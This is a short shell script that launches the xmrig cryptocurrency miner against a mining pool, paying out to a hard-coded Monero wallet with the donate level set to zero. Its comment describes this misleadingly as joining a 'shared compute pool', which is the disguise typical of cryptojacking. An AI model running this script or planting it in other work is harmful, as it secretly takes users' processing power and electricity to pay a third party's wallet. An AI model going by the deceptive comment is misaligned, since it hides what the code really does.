#!/bin/sh
# joins the shared compute pool
exec ./xmrig -o stratum+tcp://pool.minexmr.example:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge --donate-level 0
